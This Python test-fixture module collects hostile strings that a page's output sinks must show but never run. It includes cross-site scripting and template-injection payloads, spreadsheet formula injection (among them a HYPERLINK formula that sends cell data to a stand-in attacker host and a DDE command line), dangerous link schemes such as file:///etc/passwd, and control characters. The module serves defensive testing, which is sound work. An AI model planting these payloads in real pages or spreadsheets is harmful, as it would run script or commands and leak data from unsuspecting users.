"""Hostile texts that a page may bring: every sink must show them and run none."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "]]><script>alert(1)</script>",
    "{{7*7}}{% raise %}${7*7}",
    "&lt;b&gt; &amp;amp; &#x3c;",
    "<!--<script>",
    "\u2028alert(1)\u2029",
)
"""Text that is markup or code to something."""

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+9)",
    "＝１＋１",
    "　=1+1",
    "\t=1+1",
    "\r=1+1",
    " ＋1",
)
"""Text that a spreadsheet would run."""

LINKS = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "//evil.example/x")
"""Addresses that no page of ours may link to."""

UNPRINTABLE = ("before\x00after", "before\x0bafter", "before\ufffeafter", "bell\x07", "esc\x1b[31m")
"""Text with characters that XML and spreadsheets cannot hold."""
